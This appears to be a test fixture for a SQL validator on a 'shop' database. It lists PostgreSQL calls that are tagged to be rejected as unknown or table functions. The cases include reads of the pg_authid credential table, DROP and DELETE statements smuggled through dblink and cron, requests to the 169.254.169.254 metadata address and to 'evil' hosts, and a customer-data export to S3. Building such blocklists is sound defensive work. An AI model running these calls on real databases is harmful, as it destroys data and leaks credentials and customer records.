-- catalog: shop

-- case: 001 => unknown-function
SELECT query_to_xml('SELECT * FROM pg_authid', true, false, '')

-- case: 002 => unknown-function
SELECT query_to_xmlschema('SELECT 1', true, false, '')

-- case: 003 => unknown-function
SELECT query_to_xml_and_xmlschema('DELETE FROM orders', true, false, '')

-- case: 004 => unknown-function
SELECT table_to_xml('pg_authid', true, false, '')

-- case: 005 => unknown-function
SELECT table_to_xmlschema('orders', true, false, '')

-- case: 006 => unknown-function
SELECT table_to_xml_and_xmlschema('orders', true, false, '')

-- case: 007 => unknown-function
SELECT schema_to_xml('shop', true, false, '')

-- case: 008 => unknown-function
SELECT schema_to_xmlschema('shop', true, false, '')

-- case: 009 => unknown-function
SELECT database_to_xmlschema(true, false, '')

-- case: 010 => unknown-function
SELECT cursor_to_xmlschema('c', true, false, '')

-- case: 011 => unknown-function
SELECT dblink('dbname=shop', 'DELETE FROM orders')

-- case: 012 => unknown-function
SELECT dblink_connect('host=evil')

-- case: 013 => unknown-function
SELECT dblink_send_query('c', 'DROP TABLE orders')

-- case: 014 => unknown-function
SELECT dblink_open('c', 'SELECT 1')

-- case: 015 => unknown-function
SELECT dblink_get_result('c')

-- case: 016 => unknown-function
SELECT cron.schedule('nightly', '* * * * *', 'DROP TABLE orders')

-- case: 017 => unknown-function
SELECT cron.schedule_in_database('x', '* * * * *', 'DELETE FROM t', 'postgres')

-- case: 018 => unknown-function
SELECT cron.unschedule(1)

-- case: 019 => unknown-function
SELECT ts_stat('SELECT body FROM reviews')

-- case: 020 => unknown-function
SELECT ts_rewrite('a'::text, 'SELECT 1')

-- case: 021 => unknown-function
SELECT xpath_table('id', 'doc', 't', '/a', 'true')

-- case: 022 => unknown-function
SELECT crosstab('SELECT 1, 2, 3')

-- case: 023 => unknown-function
SELECT connectby('t', 'id', 'parent', '1', 0)

-- case: 024 => unknown-function
SELECT plpgsql_call_handler()

-- case: 025 => unknown-function
SELECT execute('DROP TABLE orders')

-- case: 026 => unknown-function
SELECT eval('DROP TABLE orders')

-- case: 027 => unknown-function
SELECT run_query('SELECT 1')

-- case: 028 => unknown-function
SELECT pg_background_launch('VACUUM')

-- case: 029 => unknown-function
SELECT http_get('http://169.254.169.254/')

-- case: 030 => unknown-function
SELECT net.http_post('http://evil', '{}')

-- case: 031 => unknown-function
SELECT postgres_fdw_disconnect_all()

-- case: 032 => unknown-function
SELECT aws_lambda.invoke('f', '{}')

-- case: 033 => unknown-function
SELECT aws_s3.query_export_to_s3('SELECT * FROM customers', 'b', 'k')

-- case: 034 => unknown-function
SELECT master_run_on_worker('SELECT 1')

-- case: 035 => unknown-function
SELECT run_command_on_workers('DROP TABLE orders')

-- case: 036 => unknown-function
SELECT cypher('g', 'MATCH (n) RETURN n')

-- case: 037 => table-function
SELECT * FROM dblink('dbname=shop', 'SELECT 1') AS t (a int)

-- case: 038 => table-function
SELECT * FROM dblink_get_result('c') AS t(a text)

-- case: 039 => table-function
SELECT * FROM crosstab('SELECT 1, 2, 3') AS t(a int, b int)

-- case: 040 => table-function
SELECT * FROM ts_stat('SELECT body FROM reviews')

-- case: 041 => table-function
SELECT * FROM query_to_xml('SELECT 1', true, true, '')

-- case: 042 => table-function
SELECT * FROM json_to_recordset('[]') AS t(a int)

-- case: 043 => table-function
SELECT * FROM xmltable('/a' PASSING 'b' COLUMNS x int)
